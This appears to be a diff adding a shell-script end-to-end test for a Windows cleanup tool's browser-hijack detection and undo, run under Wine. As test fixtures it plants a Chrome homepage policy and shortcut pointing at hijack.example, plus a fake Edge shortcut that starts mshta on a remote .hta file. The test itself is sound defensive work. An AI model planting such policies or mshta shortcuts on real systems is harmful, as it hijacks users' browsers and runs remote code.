@@ -1,0 +1,78 @@
+#!/usr/bin/env bash
+# Row 13 with real input: a Chrome machine policy and a desktop shortcut that
+# starts a stand-in chrome.exe with an address, beside an administrator's
+# policy. F5 shows the row orange; the manager lists both, every line ticked,
+# and clean removes them, keeping the other policy and the profile argument;
+# a shortcut named like Edge that starts mshta is deleted. Undo from the check
+# menu puts the policy back and both shortcuts byte for byte; then orvane-cli's
+# browsers list and clean through cmd /c.
+. "$(dirname "$0")/lib/e2e.sh"
+e2e_setup
+
+CHROME='HKLM\SOFTWARE\Policies\Google\Chrome' LINK='Google Chrome'
+link() { wine "$E2E_BUILD/orvane_e2e_link.exe" "$@" </dev/null 2>/dev/null | tr -d '\r'; }
+trap 'wine reg delete "$CHROME" /f </dev/null >/dev/null 2>&1 || true; rm -f "$lnk" "$fake"; e2e_cleanup' EXIT
+cp "$E2E_BUILD/orvane-cli.exe" "$E2E_APP/orvane-cli.exe"
+rm -rf "$E2E_APP/Backups"
+
+mkdir -p "$E2E_ROOT/Chrome"
+cp "$E2E_BUILD/orvane_e2e_link.exe" "$E2E_ROOT/Chrome/chrome.exe"
+e2e_reg_set "$CHROME" HomepageLocation 'https://hijack.example/'
+e2e_reg_set "$CHROME" MetricsReportingEnabled 0
+lnk=$(link make "$LINK" "$(winepath -w "$E2E_ROOT/Chrome/chrome.exe" 2>/dev/null)" \
+  '--profile-directory="Profile 1" https://hijack.example/?src=lnk')
+lnk=$(winepath -u "$lnk" 2>/dev/null)
+fake=$(winepath -u "$(link make 'Microsoft Edge' 'C:\windows\system32\mshta.exe' 'http://hijack.example/a.hta')" 2>/dev/null)
+[ -f "$lnk" ] && [ -f "$fake" ] || fail "no shortcuts planted"
+sums() { md5sum "$lnk" "$fake" 2>&1 | awk '{print $1}' | tr '\n' ' '; }
+before=$(sums)
+check_menu() {  # keys that pick a line
+  xdotool mousemove --window "$E2E_WINDOW" 200 200 key F5
+  e2e_wait_other_window >/dev/null && sleep 0.3 && xdotool key "$@" Return || fail "no check menu after F5"
+}
+
+e2e_start
+e2e_scroll_down 7
+check_menu Down
+sleep 1
+e2e_shot "$E2E_WINDOW" "$E2E_SHOTS/browsers-checked.png"
+orange=$(e2e_pixels "$E2E_SHOTS/browsers-checked.png" "375x16+20+$(( $(e2e_row_y 13 7) - 6 ))" \
+  '$1 >= 150 && $2 >= 50 && $2 <= 190 && $3 <= 130 && $1 - $3 >= 90')
+[ "$orange" -gt 10 ] && echo "ok: row 13 orange ($orange)" || fail "row 13 not orange ($orange)"
+
+e2e_tick_row 13 7
+e2e_press_repair
+manager=$(e2e_wait_other_window) || manager=
+if [ -n "$manager" ]; then
+  sleep 0.5
+  e2e_shot "$manager" "$E2E_DOCS/browser-manager.png"
+  e2e_click "$manager" 339 227  # clean: every line is ticked
+  sleep 1
+  expect_eq "policy removed" '(absent)' "$(e2e_reg_value "$CHROME" HomepageLocation)"
+  expect_eq "administrator's policy kept" 0 "$(e2e_reg_value "$CHROME" MetricsReportingEnabled)"
+  expect_eq "shortcut keeps its profile" '--profile-directory="Profile 1"' "$(link args "$LINK")"
+  expect_eq "impostor deleted" no "$([ -f "$fake" ] && echo yes || echo no)"
+  e2e_click "$manager" 377 10
+  e2e_wait_no_other_window || fail "manager still open"
+else
+  fail "browser manager did not open"
+fi
+
+# Undo from the check menu (F5, second line) puts every byte back.
+check_menu Down Down
+e2e_dismiss_box || fail "no message after undo"
+expect_eq "policy back" 'https://hijack.example/' "$(e2e_reg_value "$CHROME" HomepageLocation)"
+expect_eq "shortcuts back byte for byte" "$before" "$(sums)"
+e2e_stop
+
+# The console program: list finds both lines again, clean removes them.
+cli() {  # args... -> exit code; output in $E2E_APP/out.txt
+  (cd "$E2E_APP" && wine cmd /c "orvane-cli.exe $* > out.txt" </dev/null >/dev/null 2>&1) && rc=0 || rc=$?
+  echo "$rc"
+}
+expect_eq "browsers list exit code" 1 "$(cli browsers list --json)"
+expect_eq "list names the shortcut" 1 "$(grep -c 'Google Chrome.lnk' "$E2E_APP/out.txt")"
+expect_eq "browsers clean exit code" 0 "$(cli browsers clean)"
+expect_eq "nothing left" 0 "$(cli browsers list)"
+
+e2e_finish
